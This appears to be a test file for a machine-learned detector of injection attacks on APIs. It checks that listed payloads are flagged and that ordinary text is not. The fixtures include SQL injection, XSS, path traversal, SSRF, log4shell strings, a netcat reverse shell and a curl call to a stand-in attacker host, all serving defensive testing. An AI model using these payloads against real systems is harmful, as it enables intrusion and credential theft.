import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { ATTACK_KINDS, AttackModel, featurise, loadAttackModel } from '../src/index.js'

const model = loadAttackModel()
const { permille10, permille1 } = model.thresholds

/** By the forms of public cheat sheets; none stands in the lists that the model learnt from. */
const ATTACKS: Record<string, string[]> = {
  sqli: [
    "7' OR '3'='3' -- x",
    '12) UNION ALL SELECT NULL,login,secret FROM staff-- -',
    "abc'; DROP TABLE invoices;--",
    '9 AND SLEEP(7)',
    '%27%20or%20%272%27%3D%272',
    "x'||(SELECT banner FROM v$version)||'",
  ],
  xss: [
    '<script>confirm(document.domain)</script>',
    '"><img src=q onerror=prompt(9)>',
    '<svg/onload=fetch(`//x.test`)>',
    'javascript:alert(document.cookie)',
    "' onfocus=alert(7) autofocus='",
  ],
  traversal: [
    '../../../../etc/shadow',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//windows/win.ini',
    'php://filter/convert.base64-encode/resource=admin.php',
  ],
  cmdi: [
    '; cat /etc/shadow',
    '8.8.8.8 && whoami',
    '$(curl http://evil.test/x)',
    '| nc 203.0.113.9 4444 -e /bin/sh',
    '`uname -a`',
  ],
  codei: [
    "<?php system('ls'); ?>",
    "require('child_process').execSync('ls')",
    "__import__('os').popen('ls').read()",
    "';phpinfo();//",
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/',
    'http://127.0.0.1:6379/',
    'gopher://localhost:25/_HELO',
    'http://[::1]:2375/containers/json',
  ],
  nosql: ['{"user":{"$ne":null},"pass":{"$gt":""}}', 'pass[$ne]=zzz', "' || this.admin == true || 'a'=='b"],
  ssti: ['{{8*8}}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("ls")}', '<%= 6*6 %>'],
  xxe: ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'],
  ldap: ['*)(cn=*))(|(cn=*', 'bob)(|(uid=*))'],
  deser: ['O:4:"Evil":1:{s:3:"cmd";s:2:"ls";}', '!!python/object/apply:os.system ["ls"]'],
  log4shell: ['${jndi:ldap://203.0.113.4:1389/o}', '${${lower:j}${lower:n}di:rmi://x.test/a}'],
  graphql: ['{__schema{types{name,fields{name,type{name}}}}}'],
  header: ['de%0d%0aSet-Cookie:%20role=admin', 'x\r\nLocation: http://evil.test/'],
  ssi: ['<!--#exec cmd="ls /" -->'],
  proto: ['{"__proto__":{"canEdit":true}}', '__proto__[canEdit]=1'],
  xpath: ["' or count(/*)=1 or 'q'='w", "'] | //secret | //x['"],
}

describe('attacks are found', () => {
  test.each(Object.entries(ATTACKS).flatMap(([kind, values]) => values.map((value) => [kind, value])))(
    '%s: %s',
    (_, value) => {
      expect(model.score(value!).score).toBeGreaterThanOrEqual(permille10)
    },
  )

  test('most of them above the threshold of alerts, and most by their kind', () => {
    const all = Object.entries(ATTACKS).flatMap(([kind, values]) =>
      values.map((value) => ({ kind, ...model.score(value), named: model.score(value).kind })),
    )
    expect(all.filter(({ score }) => score >= permille1).length).toBeGreaterThanOrEqual(0.7 * all.length)
    expect(all.filter(({ kind, named }) => kind === named).length).toBeGreaterThanOrEqual(0.75 * all.length)
  })
})

describe('ordinary values are not', () => {
  test.each([
    "Siobhan O'Reilly",
    "Jeanne d'Arc",
    "L'Hôpital",
    "rock 'n' roll",
    'Please select an item from the list and drop it where you like',
    "The union's order was to set and update the table",
    '$.orders[?(@.total > 20 && @.state == "open")].id',
    '$..author',
    'Hi {{firstName}}, welcome back!',
    '<p>Our <b>new</b> range is here. <a href="https://shop.example.org/new">Look</a></p>',
    '## Notes\n\n- one\n- two\n\nSee [the guide](https://example.org/guide).',
    'C:\\Users\\Ann\\Pictures\\beach.jpg',
    '/var/www/shop/index.html',
    'https://api.example.org/v2/users?limit=10&sort=-created',
    'status eq "open" and total gt 10',
    'query Me { me { id name } }',
    '{"name":"Ann","tags":["a","b"],"price":9.5}',
    'cn=Ann Lee,ou=Sales,dc=example,dc=org',
    '^[a-z0-9]+(-[a-z0-9]+)*$',
    '0 12 * * MON-FRI',
    'body { margin: 0; color: #fff }',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Müller & Söhne GmbH, Straße 5',
    'E = mc^2; F = ma',
    "Men's 6' ladder, 10\" steps -- black/white",
  ])('%s', (value) => expect(model.score(value).score).toBeLessThan(permille1))
})

test('prose before and behind does not hide an attack, and is none', () => {
  const prose = 'We ordered the blue lamp last week and it arrived with a scratch, please tell us how to return it. '
  for (const payload of [
    "' UNION SELECT NULL,login,secret FROM staff-- -",
    '<script>alert(document.cookie)</script>',
    '${jndi:ldap://x.test/a}',
    '; cat /etc/shadow',
    '../../../../etc/shadow',
    'http://169.254.169.254/latest/meta-data/',
    "' or 7=7 -- ",
  ]) {
    for (const value of [prose + payload, prose.repeat(9) + payload, prose + payload + prose.repeat(3)])
      expect([value.slice(-60), model.score(value).score >= permille1]).toEqual([value.slice(-60), true])
  }
  expect(model.score(prose.repeat(9)).score).toBeLessThan(0.01)
  expect(model.score(`${prose}She said "it's fine"; we don't agree -- sorry. ${prose}`).score).toBeLessThan(permille1)
})

test('a statement diluted in prose is found, whatever marks of prose stand before it', () => {
  const marks = `She said "it's fine"; we don't agree = not at all | "so" be it; <b>bold</b> claims, {{name}}, 'quoted' words: `
  const prose = 'We ordered the blue lamp last week and it arrived with a scratch, please tell us how to return it. '
  for (const payload of [
    "x' UNION SELECT NULL,login,secret FROM staff-- -",
    "x' or 'a'='a' -- ",
    '${${lower:j}ndi:${::-l}dap://x.test/a}',
    '..%f8%80%80%80%afetc..%c0%qf..%c0%qfetc/passwd',
  ])
    for (const value of [
      marks.repeat(3) + payload,
      `${marks.repeat(9)}${payload} ${prose}`,
      payload + prose.repeat(6),
      prose.repeat(4) + payload + prose.repeat(4),
    ])
      expect([payload, value.indexOf(payload), model.score(value).score >= permille1]).toEqual([
        payload,
        value.indexOf(payload),
        true,
      ])
  expect(model.score(marks.repeat(9)).score).toBeLessThan(permille1)
  expect(
    model.score(`Drop table tennis, select a plan; update the order from the union or delete it. ${prose}`).score,
  ).toBeLessThan(permille1)
})

test('a statement stacked behind a number is found as one behind a string is', () => {
  for (const value of [
    '1; DROP TABLE staff; -- ',
    '1;drop table users',
    '5;update users set admin=1',
    '7; select pg_sleep(5)',
    '1;shutdown--',
    '1`;drop table x',
  ])
    expect([value, model.score(value).score >= permille1]).toEqual([value, true])
  for (const value of ['1; drop me a line', '2; select the one you like', '3; update the form and order by phone'])
    expect([value, model.score(value).score < permille1]).toEqual([value, true])
})

test('bytes that are no text are no attack', () => {
  let flagged = 0
  for (let i = 0; i < 400; i++) {
    const bytes = Buffer.concat(
      Array.from({ length: 1 + (i % 30) }, (_, k) => createHash('sha256').update(`${i} ${k}`).digest()),
    )
    for (const value of [bytes.toString('latin1'), bytes.toString('utf8')])
      if (model.score(value).score >= permille1) flagged++
  }
  expect(flagged).toBeLessThanOrEqual(4)
})

test('scores are the same for the same value, in any order', () => {
  const values = Object.values(ATTACKS).flat()
  const once = values.map((value) => model.score(value).score)
  expect(values.toReversed().map((value) => model.score(value).score)).toEqual(once.toReversed())
})

test('never throws, and answers within bounds', () => {
  const marks = fc.constantFrom(
    "'",
    '"',
    '<',
    '>',
    '{{',
    '}}',
    '${',
    '../',
    '%27',
    '%',
    ';',
    '|',
    '(',
    ')',
    '&#',
    '\\u',
    '/*',
    '*/',
    ' or ',
    'select',
    '\n',
    '\0',
    '：',
  )
  fc.assert(
    fc.property(
      fc.array(fc.oneof(marks, fc.string({ unit: 'binary', maxLength: 20 })), { maxLength: 40 }),
      (pieces) => {
        const { score, kind } = model.score(pieces.join(''))
        expect(score).toBeGreaterThanOrEqual(0)
        expect(score).toBeLessThanOrEqual(1)
        if (kind !== undefined) expect(ATTACK_KINDS).toContain(kind)
        for (const sign of featurise(pieces.join('')).signs) expect(Number.isFinite(sign)).toBe(true)
      },
    ),
    { numRuns: 300 },
  )
})

test('long and nasty values take no longer than their bounds allow', () => {
  const nasty = [
    "'",
    '(',
    '{{',
    '${',
    '<a ',
    '../',
    '%25',
    '&#',
    'a=',
    "' or ",
    '/*',
    '\\u0027',
    'f(',
    '$(',
    'x'.repeat(50),
    '<!--',
    ' ',
  ].map((piece) => piece.repeat(200_000 / piece.length))
  for (const value of nasty) {
    const started = process.cpuUsage()
    model.score(value)
    const { user, system } = process.cpuUsage(started)
    expect((user + system) / 1000).toBeLessThan(20_000)
  }
})

test('an artefact of another version or other columns is refused', () => {
  expect(() => new AttackModel({ format: 'apiscope-attacks', version: 2 } as never)).toThrow(RangeError)
  expect(() => new AttackModel({ format: 'apiscope-attacks', version: 1, columns: ['x'] } as never)).toThrow(
    /other columns/,
  )
  expect(() => loadAttackModel('/nowhere/attacks.json.gz')).toThrow(/train-attacks/)
})
